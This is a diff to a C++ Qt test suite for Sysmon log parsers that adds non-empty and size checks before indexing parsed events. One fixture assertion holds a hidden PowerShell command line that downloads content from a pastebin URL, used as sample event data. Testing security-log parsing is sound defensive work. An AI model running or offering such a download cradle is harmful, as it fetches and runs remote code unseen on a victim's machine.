@@ -244,6 +244,7 @@ void TestSysmonParsers::missingFields() {
     QVERIFY(create.find("ParentProcessGuid") == nullptr);
     QVERIFY(anyRejectSays(s, "event has no EventID"));
     QVERIFY(anyRejectSays(s, "event has no time"));
+    QVERIFY(s.rejects.size() >= 2);
     QCOMPARE(s.rejects[0].line, int64_t(3));
     QCOMPARE(s.rejects[1].line, int64_t(4));
 }
@@ -391,6 +392,7 @@ void TestSysmonParsers::jsonShapes() {
 
 void TestSysmonParsers::jsonValues() {
     const CollectingSink ecs = parseFile("sysmon-json", fixture(QStringLiteral("sysmon/winlogbeat_ecs.ndjson")));
+    QVERIFY(!ecs.sysmons.empty());
     // UtcTime from the event data wins over the shipper's @timestamp (10 ms later).
     QCOMPARE(ecs.sysmons[0].tsUs, us("2024-03-01T10:00:02Z"));
     QCOMPARE(ecs.sysmons[0].recordNumber, int64_t(4711));
@@ -398,6 +400,7 @@ void TestSysmonParsers::jsonValues() {
     QCOMPARE(ecs.sysmons[0].field("CommandLine"), std::string("powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/x\""));
 
     const CollectingSink flat = parseFile("sysmon-json", fixture(QStringLiteral("sysmon/nxlog_flat.json")));
+    QVERIFY(!flat.sysmons.empty());
     const OwnedSysmon& p = flat.sysmons[0];
     QVERIFY(p.find("Message") == nullptr);     // envelope, excluded by the mapping
     QVERIFY(p.find("RecordNumber") == nullptr);
